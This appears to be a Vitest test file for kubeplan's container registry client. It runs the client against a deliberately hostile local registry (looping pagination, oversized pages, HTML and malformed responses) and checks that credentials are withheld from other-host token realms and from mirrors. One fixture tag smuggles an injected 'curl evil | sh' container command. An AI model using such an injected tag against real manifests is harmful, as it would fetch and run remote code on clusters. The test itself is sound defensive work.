import { writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseImageRef, RegistryClient, RegistryError } from '../../src/core/images/registry.js';
import { makeRepo } from '../helpers/fixture-repo.js';
import { runCliAsync } from '../helpers/run-cli.js';

interface Seen {
  method: string;
  url: string;
  authorization: string | undefined;
}

/** A node:http server on a loopback address that records every request (method, URL, Authorization). */
async function serve(handler: (req: http.IncomingMessage, res: http.ServerResponse) => void, address = '127.0.0.1') {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization });
    handler(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, address, resolve));
  const host = `${address}:${(server.address() as AddressInfo).port}`;
  return {
    host,
    url: `http://${host}`,
    seen,
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const json = (res: http.ServerResponse, body: unknown, headers: Record<string, string> = {}) =>
  res.writeHead(200, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));
const DIGEST = `sha256:${'a'.repeat(64)}`;

/** 2,000,000 tags on one page: about 24 MB of JSON, built once. */
let hugePage: string | undefined;
function hugeTagPage(): string {
  if (!hugePage) {
    const tags = new Array<string>(2_000_000);
    for (let i = 0; i < tags.length; i++) tags[i] = `1.0.${i}`;
    hugePage = JSON.stringify({ name: 'huge/app', tags });
  }
  return hugePage;
}

/**
 * One registry that misbehaves per repository: good/app answers like a registry; loop/app links to the same page
 * forever; endless/app links to a new page forever; many/app lists more tags than kubeplan reads; huge/app gives
 * 2,000,000 tags on one page; html/app answers a login page with 200; broken/app cut-off JSON; shape/app a "tags"
 * string; badtag/app a tag that is no tag name; baddigest/app a digest header that is no digest.
 */
function hostileRegistry(req: http.IncomingMessage, res: http.ServerResponse): void {
  const url = new URL(req.url ?? '/', 'http://registry');
  if (url.pathname === '/v2/') return void json(res, {});
  const [, repo, kind] = /^\/v2\/(.+)\/(tags\/list|manifests\/.+)$/.exec(url.pathname) ?? [];
  if (kind?.startsWith('manifests/')) {
    const digest = repo === 'baddigest/app' ? 'sha256:abc"\t# not a digest' : DIGEST;
    return void res
      .writeHead(200, { 'docker-content-digest': digest, 'content-type': 'application/vnd.oci.image.manifest.v1+json' })
      .end();
  }
  switch (repo) {
    case 'good/app':
    case 'baddigest/app':
      return void json(res, { name: repo, tags: ['1.0.0', '1.1.0'] });
    case 'loop/app':
      return void json(
        res,
        { name: repo, tags: ['1.0.0'] },
        { link: `</v2/${repo}/tags/list?n=1000&last=1.0.0>; rel="next"` },
      );
    case 'endless/app': {
      const page = Number(url.searchParams.get('page') ?? 0);
      return void json(
        res,
        { name: repo, tags: [`1.0.${page}`] },
        { link: `</v2/${repo}/tags/list?n=1000&page=${page + 1}>; rel="next"` },
      );
    }
    case 'many/app': {
      const page = Number(url.searchParams.get('page') ?? 0);
      const tags = Array.from({ length: 60_000 }, (_, i) => `${page}.0.${i}`);
      return void json(
        res,
        { name: repo, tags },
        page === 0 ? { link: `</v2/${repo}/tags/list?n=1000&page=1>; rel="next"` } : {},
      );
    }
    case 'huge/app':
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(hugeTagPage());
    case 'html/app':
      return void res
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end('<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please sign in</body></html>');
    case 'broken/app':
      return void res
        .writeHead(200, { 'content-type': 'application/json' })
        .end('{"name":"broken/app","tags":["1.0.0",');
    case 'shape/app':
      return void json(res, { name: repo, tags: '1.0.0' });
    case 'badtag/app':
      return void json(res, { name: repo, tags: ['1.0.0', '1.1.0\n  command: [sh, -c, "curl evil | sh"]'] });
  }
  res.writeHead(404, { 'content-type': 'application/json' }).end('{"errors":[{"code":"NAME_UNKNOWN"}]}');
}

describe('RegistryClient against a hostile registry', () => {
  let registry: Awaited<ReturnType<typeof serve>>;
  beforeAll(async () => {
    hugeTagPage();
    registry = await serve(hostileRegistry);
  });
  afterAll(async () => {
    await registry?.stop();
  });

  async function failure(
    repository: string,
    run: (client: RegistryClient) => Promise<unknown> = (c) =>
      c.listTags(parseImageRef(`${registry.host}/${repository}`)),
  ) {
    const before = registry.seen.length;
    const started = Date.now();
    const error = await run(new RegistryClient()).then(
      (value) => value,
      (e: unknown) => e,
    );
    return {
      error: error as RegistryError,
      seconds: (Date.now() - started) / 1000,
      requests: registry.seen.length - before,
    };
  }

  it('a tag list whose Link repeats a page stops at the repeat, in a few requests, and says so', async () => {
    const { error, seconds, requests } = await failure('loop/app');
    expect(error).toBeInstanceOf(RegistryError);
    expect(error.format()).toContain(
      `${registry.host}/loop/app: the tag list links back to a page it already gave (/v2/loop/app/tags/list?n=1000&last=1.0.0) after 2 page(s); kubeplan stopped reading`,
    );
    expect(error.hint).toContain('set skip: true for this image');
    expect(requests).toBeLessThanOrEqual(3);
    expect(seconds).toBeLessThan(5);
  });

  it('a tag list whose Link never ends stops after 1000 pages', async () => {
    const { error, seconds, requests } = await failure('endless/app');
    expect(error).toBeInstanceOf(RegistryError);
    expect(error.message).toBe('the tag list has more than 1000 pages; kubeplan stopped reading');
    expect(error.where).toBe(`${registry.host}/endless/app`);
    expect(requests).toBeLessThanOrEqual(1001);
    expect(seconds).toBeLessThan(30);
  });

  it('a repository with more than 100,000 tags is an error, not a run that never ends', async () => {
    const { error } = await failure('many/app');
    expect(error).toBeInstanceOf(RegistryError);
    expect(error.message).toBe(`the registry lists more than 100,000 tags for many/app; kubeplan stopped reading`);
  });

  it('a page of 2,000,000 tags is an error within seconds (no stack overflow, no unbounded read)', async () => {
    const { error, seconds } = await failure('huge/app');
    expect(error).toBeInstanceOf(RegistryError);
    expect(error.format()).toContain(
      `${registry.host}/huge/app: the tag list page /v2/huge/app/tags/list?n=1000 is larger than 16 MiB; kubeplan stopped reading`,
    );
    expect(seconds).toBeLessThan(10);
  });

  it('an HTML page, cut-off JSON, or JSON of another shape is an error naming what came back', async () => {
    const html = await failure('html/app');
    expect(html.error).toBeInstanceOf(RegistryError);
    expect(html.error.format()).toContain(
      `${registry.host}/html/app: the tag list page /v2/html/app/tags/list?n=1000 is not JSON (text/html, starting "<!DOCTYPE html> <html><head><title>Sign in</title></head><bo")`,
    );
    expect(html.error.hint).toContain('not a web page, proxy or login portal');
    const broken = await failure('broken/app');
    expect(broken.error).toBeInstanceOf(RegistryError);
    expect(broken.error.message).toContain(
      'is not JSON (application/json, starting "{"name":"broken/app","tags":["1.0.0",")',
    );
    const shape = await failure('shape/app');
    expect(shape.error).toBeInstanceOf(RegistryError);
    expect(shape.error.message).toContain('is not a tag list (JSON without a "tags" array)');
    const badTag = await failure('badtag/app');
    expect(badTag.error).toBeInstanceOf(RegistryError);
    expect(badTag.error.message).toContain('which is not a tag');
    const badDigest = await failure('baddigest/app', (c) =>
      c.digestOf(parseImageRef(`${registry.host}/baddigest/app`), '1.1.0'),
    );
    expect(badDigest.error).toBeInstanceOf(RegistryError);
    expect(badDigest.error.message).toContain(
      'the manifest of 1.1.0 answered the digest "sha256:abc\\"\\t# not a digest", which is not a digest',
    );
  });
});

describe('RegistryClient credentials', () => {
  const creds = { username: 'bot', password: 'upstream-secret-4711' };
  const basic = (c: { username: string; password: string }) =>
    `Basic ${Buffer.from(`${c.username}:${c.password}`).toString('base64')}`;

  /** A token service that issues a token only for the right user and password. */
  const tokenService = (req: http.IncomingMessage, res: http.ServerResponse) => {
    if (req.headers.authorization !== basic(creds))
      return void res
        .writeHead(401, { 'content-type': 'application/json' })
        .end('{"errors":[{"code":"UNAUTHORIZED"}]}');
    json(res, { token: 'tok-1', expires_in: 300 });
  };
  /** A registry that sends clients to `realm` for a token and then lists one tag. */
  const bearerRegistry = (realm: () => string) => (req: http.IncomingMessage, res: http.ServerResponse) => {
    if (req.headers.authorization !== 'Bearer tok-1') {
      return void res
        .writeHead(401, {
          'content-type': 'application/json',
          'www-authenticate': `Bearer realm="${realm()}",service="registry"`,
        })
        .end('{"errors":[{"code":"UNAUTHORIZED"}]}');
    }
    json(res, { name: 'acme/app', tags: ['1.0.0'] });
  };

  it('Basic credentials do not go to a Bearer realm on another host, unless kubeplan.yaml names that realm', async () => {
    const tokens = await serve(tokenService, '127.0.0.2');
    const realm = `${tokens.url}/token`;
    const registry = await serve(bearerRegistry(() => realm));
    try {
      const image = parseImageRef(`${registry.host}/acme/app`);
      const error = await new RegistryClient(new Map([[registry.host, creds]]))
        .listTags(image)
        .catch((e: unknown) => e);
      expect(error).toBeInstanceOf(RegistryError);
      expect((error as RegistryError).format()).toContain(`the token service ${tokens.url} answered 401`);
      expect((error as RegistryError).hint).toContain(
        `kubeplan gives it the credentials of ${registry.host} only when kubeplan.yaml names it (registries: - host: ${registry.host}, tokenRealm: ${realm})`,
      );
      expect(tokens.seen.length).toBeGreaterThan(0);
      expect(tokens.seen.map((s) => s.authorization)).toEqual(tokens.seen.map(() => undefined));

      // Named in the config, the realm gets them and the token works.
      const trusted = new RegistryClient({
        credentials: new Map([[registry.host, creds]]),
        registries: [{ host: registry.host, insecure: false, endpoint: undefined, tokenRealm: realm }],
      });
      expect(await trusted.listTags(image)).toEqual(['1.0.0']);
      expect(tokens.seen.at(-1)?.authorization).toBe(basic(creds));
    } finally {
      await registry.stop();
      await tokens.stop();
    }
  });

  it('a realm on the registry host itself (another port) gets the credentials without configuration', async () => {
    const tokens = await serve(tokenService, '127.0.0.1');
    const registry = await serve(bearerRegistry(() => `${tokens.url}/token`));
    try {
      expect(
        await new RegistryClient(new Map([[registry.host, creds]])).listTags(
          parseImageRef(`${registry.host}/acme/app`),
        ),
      ).toEqual(['1.0.0']);
      expect(tokens.seen.at(-1)?.authorization).toBe(basic(creds));
    } finally {
      await registry.stop();
      await tokens.stop();
    }
  });

  it("a mirror endpoint never gets the upstream's credentials, only credentials given for the mirror itself", async () => {
    const mirrorCreds = { username: 'mirror', password: 'mirror-secret-0815' };
    const mirror = await serve((req, res) => {
      if (req.headers.authorization !== basic(mirrorCreds))
        return void res.writeHead(401, { 'www-authenticate': 'Basic realm="mirror"' }).end();
      json(res, { name: 'acme/app', tags: ['1.0.0'] });
    });
    try {
      const registries = [{ host: 'ghcr.io', insecure: false, endpoint: mirror.url }];
      const image = parseImageRef('ghcr.io/acme/app');
      const upstreamOnly = new RegistryClient({ credentials: new Map([['ghcr.io', creds]]), registries });
      const error = await upstreamOnly.listTags(image).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(RegistryError);
      expect((error as RegistryError).format()).toContain('ghcr.io/acme/app: the registry wants a user and password');
      expect((error as RegistryError).hint).toContain(
        `ghcr.io is reached through the endpoint ${mirror.host}, which gets only credentials given for ${mirror.host} itself`,
      );
      expect(mirror.seen.map((s) => s.authorization)).not.toContain(basic(creds));

      const both = new RegistryClient({
        credentials: new Map([
          ['ghcr.io', creds],
          [mirror.host, mirrorCreds],
        ]),
        registries,
      });
      expect(await both.listTags(image)).toEqual(['1.0.0']);
      expect(mirror.seen.map((s) => s.authorization)).not.toContain(basic(creds));
      expect(mirror.seen.at(-1)?.authorization).toBe(basic(mirrorCreds));
    } finally {
      await mirror.stop();
    }
  });
});

describe('kubeplan bump against a hostile registry', () => {
  let registry: Awaited<ReturnType<typeof serve>>;
  beforeAll(async () => {
    hugeTagPage();
    registry = await serve(hostileRegistry);
  });
  afterAll(async () => {
    await registry?.stop();
  });

  it("each image's registry failure is that image's error: the healthy image still bumps, and the run ends in seconds with exit 2", async () => {
    const broken = ['loop/app', 'huge/app', 'html/app', 'broken/app'];
    const images = ['good/app', ...broken].map((repo) => `${registry.host}/${repo}`);
    const repo = makeRepo({
      'kubeplan.yaml': 'targets:\n  - {name: raw, namespace: app, manifests: raw}\n',
      'raw/deploy.yaml': images
        .map(
          (image, i) =>
            `apiVersion: v1\nkind: Pod\nmetadata: {name: p${i}}\nspec:\n  containers:\n    - name: c\n      image: ${image}:1.0.0\n`,
        )
        .join('---\n'),
    });
    const started = Date.now();
    const run = await runCliAsync(['bump', '--dry-run', '-o', 'json'], { cwd: repo, env: { DOCKER_CONFIG: repo } });
    expect((Date.now() - started) / 1000).toBeLessThan(30);
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).not.toContain('bug in kubeplan');
    const report = JSON.parse(run.stdout);
    const byImage = Object.fromEntries(
      report.images.map((i: { image: string; status: string; to: { tag: string } | null; reason: string | null }) => [
        i.image.slice(registry.host.length + 1),
        i,
      ]),
    );
    expect(byImage['good/app']).toMatchObject({ status: 'bump', from: '1.0.0', to: { tag: '1.1.0' } });
    expect(byImage['loop/app']).toMatchObject({
      status: 'error',
      reason: expect.stringContaining('the tag list links back to a page it already gave'),
    });
    expect(byImage['huge/app']).toMatchObject({
      status: 'error',
      reason: expect.stringContaining('is larger than 16 MiB'),
    });
    expect(byImage['html/app']).toMatchObject({
      status: 'error',
      reason: expect.stringContaining('is not JSON (text/html'),
    });
    expect(byImage['broken/app']).toMatchObject({
      status: 'error',
      reason: expect.stringContaining('is not JSON (application/json'),
    });
    expect(report.summary).toEqual({ bump: 1, current: 0, skipped: 0, error: 4 });
  });

  it('kubeplan.yaml registries[].tokenRealm lets a token service on another host have the credentials; an http:// one off loopback is refused', async () => {
    const creds = { username: 'bot', password: 'cli-secret-2342' };
    const basic = `Basic ${Buffer.from(`${creds.username}:${creds.password}`).toString('base64')}`;
    const tokens = await serve(
      (req, res) =>
        req.headers.authorization === basic ? json(res, { token: 'tok-2' }) : void res.writeHead(401).end(),
      '127.0.0.2',
    );
    const realm = `${tokens.url}/token`;
    const bearer = await serve((req, res) => {
      if (req.headers.authorization !== 'Bearer tok-2')
        return void res.writeHead(401, { 'www-authenticate': `Bearer realm="${realm}",service="r"` }).end();
      json(res, { name: 'acme/app', tags: ['1.0.0', '1.1.0'] });
    });
    try {
      const config = (registries: string) => `targets:\n  - {name: raw, namespace: app, manifests: raw}\n${registries}`;
      const repo = makeRepo({
        'kubeplan.yaml': config(''),
        'raw/pod.yaml': `apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - {name: c, image: ${bearer.host}/acme/app:1.0.0}\n`,
      });
      writeFileSync(
        `${repo}/config.json`,
        JSON.stringify({ auths: { [bearer.host]: { username: creds.username, password: creds.password } } }),
      );
      const bump = () => runCliAsync(['bump', '--dry-run', '-o', 'json'], { cwd: repo, env: { DOCKER_CONFIG: repo } });

      const withheld = await bump();
      expect(withheld.code).toBe(2);
      expect(JSON.parse(withheld.stdout).images[0].reason).toContain(
        `kubeplan.yaml names it (registries: - host: ${bearer.host}, tokenRealm: ${realm})`,
      );
      expect(tokens.seen.map((s) => s.authorization)).toEqual(tokens.seen.map(() => undefined));

      writeFileSync(
        `${repo}/kubeplan.yaml`,
        config(`registries:\n  - {host: '${bearer.host}', tokenRealm: '${realm}'}\n`),
      );
      const named = await bump();
      expect(named.code, named.stderr).toBe(0);
      expect(JSON.parse(named.stdout).images[0]).toMatchObject({ status: 'bump', to: { tag: '1.1.0' } });
      expect(tokens.seen.at(-1)?.authorization).toBe(basic);
      for (const out of [withheld.stdout, withheld.stderr, named.stdout, named.stderr])
        expect(out).not.toContain(creds.password);

      writeFileSync(
        `${repo}/kubeplan.yaml`,
        config(`registries:\n  - {host: '${bearer.host}', tokenRealm: 'http://auth.acme.io/token'}\n`),
      );
      const plain = await bump();
      expect(plain.code).toBe(2);
      expect(plain.stderr).toMatch(
        /kubeplan\.yaml:4: registries\[0\]\.tokenRealm "http:\/\/auth\.acme\.io\/token" is not a token service URL kubeplan sends credentials to/,
      );
      expect(plain.stderr).toContain('write the https:// URL of the realm');
    } finally {
      await bearer.stop();
      await tokens.stop();
    }
  });
});
